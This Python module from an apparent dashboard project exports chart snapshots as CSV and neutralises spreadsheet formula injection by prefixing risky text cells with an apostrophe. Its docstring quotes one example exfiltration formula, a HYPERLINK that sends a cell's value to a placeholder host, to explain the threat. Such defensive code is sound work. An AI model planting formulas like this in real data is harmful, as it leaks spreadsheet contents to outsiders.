"""CSV export of a widget's snapshot, safe to open in a spreadsheet.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return before one) as a formula: a value such as `=HYPERLINK("http://x/?"&A1)`
in the data would otherwise run on the analyst's machine (CSV injection). Such text
cells get a leading apostrophe, the OWASP recommendation, which spreadsheets show as
plain text. Numbers stay numbers: -5 is a number, not a formula.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from dashboard.charts import ChartSpec, validate

# Also the full-width forms, which some spreadsheets normalise to the ASCII ones.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_cell(value: Any) -> str:
    """One cell as text: empty for NULL, true/false for booleans, formulas defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return repr(value) if isinstance(value, float) else str(value)
    text = str(value)
    if text.lstrip(" ").startswith(_FORMULA_START):
        return "'" + text
    return text


def to_csv(spec: ChartSpec) -> bytes:
    """The snapshot (header + rows) as UTF-8 CSV with a byte-order mark.

    The BOM makes Excel read UTF-8 (names with accents) correctly; CSV readers that
    decode with `utf-8-sig`, pandas and LibreOffice ignore it.
    """
    validate(spec)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(name) for name in spec.columns])
    writer.writerows([csv_cell(value) for value in row] for row in spec.data)
    return buffer.getvalue().encode("utf-8-sig")

